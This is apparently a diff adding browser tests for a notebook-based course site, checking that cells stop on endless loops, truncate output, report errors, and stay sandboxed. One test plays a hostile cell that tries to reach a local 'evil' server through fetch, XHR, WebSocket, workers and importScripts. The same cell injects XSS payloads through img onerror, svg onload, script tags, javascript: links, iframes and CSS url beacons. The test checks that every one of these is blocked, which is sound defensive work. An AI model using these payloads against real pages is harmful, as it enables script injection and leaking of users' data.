@@ -1,0 +1,175 @@
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { pathToFileURL } from 'node:url';
+import { expect, it, onTestFinished } from 'vitest';
+import { exercises } from '../../../src/exercises/check/all-exercises';
+import type { Exercise } from '../../../src/exercises/exercise';
+import { readCourse } from '../../notebooks/course';
+import type { ServedSite } from '../site/served-site';
+import { cellOf, quiet } from './live-page';
+
+const PAGE = '02-nudge-gradient.html';
+const [first, second] = readCourse()[2].notebook.cells.filter(
+  ({ cell_type }) => cell_type === 'code',
+);
+
+/** Tests of what happens where cells do what they should not. */
+export function testTrials(opened: () => ServedSite): void {
+  const open = async () => {
+    const { page } = await opened().open(PAGE);
+    const cell = cellOf(page, first.id);
+    const runCode = async (code: string) => {
+      await cell.write(code);
+      return cell.run();
+    };
+    return { page, cell, runCode };
+  };
+  /** Closed where the test succeeds; the browser goes with the site. */
+  const inPage = (
+    name: string,
+    test: (opened: Awaited<ReturnType<typeof open>>) => Promise<void>,
+  ) =>
+    it(name, async () => {
+      const there = await open();
+      await test(there);
+      await there.page.context().close();
+    });
+
+  inPage('an endless loop is stopped, and the next cell runs', async (there) => {
+    const { page, cell, runCode } = there;
+    await cell.write('while (true) {}');
+    await cell.cell.getByRole('button', { name: /^Run/ }).click();
+    await page
+      .getByRole('status')
+      .getByText(/^Running cell 1…$/)
+      .waitFor();
+    await page.getByRole('button', { name: 'Stop', exact: true }).click();
+    expect(await quiet(page)).toMatch(/^Stopped\. Variables are gone/);
+    expect(await cell.said()).toBe('Stopped.');
+    await runCode('1 + 1');
+    expect(await cell.said()).toBe('2');
+  });
+
+  it('an answer that never ends is stopped by itself', async () => {
+    const { page } = await opened().open(PAGE);
+    const { name } = exercises.find(({ tryOn }) => tryOn) as Exercise;
+    const cell = cellOf(page, first.id);
+    await cell.write(
+      `import { check } from '../src'; check('${name}', () => { while (true) {} });`,
+    );
+    expect(await cell.run()).toMatch(/^Your answer had not ended after a second/);
+    expect(await cell.said()).toMatch(/^Your answer had not ended after a second/);
+    await cell.write('1 + 1');
+    await cell.run();
+    expect(await cell.said()).toBe('2');
+    await page.context().close();
+  });
+
+  inPage('a million lines are cut', async ({ cell, runCode }) => {
+    await runCode('for (let k = 0; k < 1e6; k++) console.log(k);');
+    const said = await cell.said();
+    expect(said).toMatch(/^0\n1\n2\n/);
+    expect(said).toMatch(/… and so on: a cell may print 200,000 letters\.$/);
+  });
+
+  inPage('errors say what and where', async ({ cell, runCode }) => {
+    expect(await runCode('const a = 1;\nnoName(a);')).toMatch(/^Cell 1 failed\./);
+    expect(await cell.said()).toBe(
+      'ReferenceError: noName is not defined\nin line 2 of this cell',
+    );
+    await runCode('const = 1');
+    expect(await cell.said()).toMatch(/^SyntaxError: .*\nin line 1 of this cell$/);
+  });
+
+  inPage('late errors are shown in their cell', async ({ cell, runCode }) => {
+    await runCode("setTimeout(() => { throw new Error('late'); }, 30); 'early'");
+    await cell.cell.getByText('Error: late').waitFor();
+    await runCode("void Promise.reject(new TypeError('later')); 'early'");
+    await cell.cell.getByText('TypeError: later').waitFor();
+  });
+
+  inPage('names that the page has are free', async ({ page, cell, runCode }) => {
+    const names = 'self, name, close, top, URL, Blob, performance, postMessage';
+    await runCode(`const [${names}, importScripts] = [1, 2, 3, 4, 5, 6, 7, 8, 9];`);
+    const other = cellOf(page, second.id);
+    await other.write(`[${names}, importScripts]`);
+    await other.run();
+    expect((await other.said()).match(/\d/g)?.join('')).toBe('123456789');
+    await runCode("import { showProgress } from '../src'; showProgress(1)(1, 0.5)");
+    expect(await cell.said()).toBe('1 epoch: the loss went from 0.5000 to 0.5000.');
+  });
+
+  inPage('a hostile cell reaches nobody and nothing of the page', async (there) => {
+    const { page, cell, runCode } = there;
+    const asked: string[] = [];
+    const evil = createServer(({ url = '' }, response) => {
+      asked.push(url);
+      response.setHeader('Access-Control-Allow-Origin', '*').end();
+    });
+    await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
+    onTestFinished(() => void evil.close());
+    const host = `127.0.0.1:${(evil.address() as AddressInfo).port}`;
+    await page.evaluate('window.reached = []');
+    await runCode(`import { display } from 'tslab';
+      const ways: Record<string, () => unknown> = {
+        fetch: () => fetch('http://${host}/fetch'),
+        xhr: () => new Promise((resolve, reject) => {
+          const request = new XMLHttpRequest();
+          request.onload = resolve;
+          request.onerror = () => reject(new Error('refused'));
+          request.open('GET', 'http://${host}/xhr');
+          request.send();
+        }),
+        socket: () => new Promise((resolve, reject) => {
+          const socket = new WebSocket('ws://${host}/socket');
+          socket.onopen = resolve;
+          socket.onerror = () => reject(new Error('refused'));
+        }),
+        events: () => new Promise((resolve, reject) => {
+          const source = new EventSource('http://${host}/events');
+          source.onopen = resolve;
+          source.onerror = () => reject(new Error('refused'));
+        }),
+        script: () => importScripts('http://${host}/script.js'),
+        eval: () => (0, eval)('1'),
+        worker: () => new Promise((resolve, reject) => {
+          const code = "fetch('http://${host}/nested').then(() => postMessage('out'), () => postMessage('in'))";
+          const worker = new Worker(URL.createObjectURL(new Blob([code])));
+          worker.onmessage = ({ data }) => data === 'out' ? resolve(data) : reject(new Error(data));
+          worker.onerror = reject;
+        }),
+      };
+      const out: string[] = [];
+      for (const [name, way] of Object.entries(ways)) {
+        try { await way(); out.push(name); } catch {}
+      }
+      console.log('out by', out.join(' ') || 'no way');
+      display.html(\`<img src="http://${host}/picture" onerror="reached.push('onerror')">
+        <svg onload="reached.push('svg')"></svg><script>reached.push('script')</script>
+        <a href="javascript:reached.push('link')">link</a>
+        <a href="https://${host}/link" onclick="reached.push('click')">away</a>
+        <form action="http://${host}/form"><button>send</button></form>
+        <iframe src="http://${host}/frame"></iframe>
+        <style>* { background: url(http://${host}/style) }</style>
+        <p style="background: url(http://${host}/inline)" id="content" class="top">text</p>\`);
+      display.latex('$$\\\\href{javascript:reached.push(1)}{a} \\\\includegraphics{http://${host}/tex}$$');`);
+    expect(await cell.said()).toMatch(/^out by no way\n/);
+    await page.locator('.outputs .katex').first().waitFor();
+    for (const link of await cell.cell.getByText('link', { exact: true }).all()) {
+      await link.click();
+    }
+    expect(await page.evaluate('reached')).toEqual([]);
+    expect(asked).toEqual([]);
+    const strange =
+      'script, svg, form, iframe, style, [onclick], [onerror], [id], [style*=url]';
+    expect(await cell.cell.locator('.outputs').locator(strange).count()).toBe(0);
+  });
+
+  it('from a disk, without a server, all is the same', async () => {
+    const { page } = await opened().open(PAGE);
+    await page.goto(`${pathToFileURL(opened().folder)}/${PAGE}`);
+    await page.getByRole('button', { name: 'Run all' }).click();
+    expect(await quiet(page)).toMatch(/^All cells ran in /);
+    await page.context().close();
+  });
+}
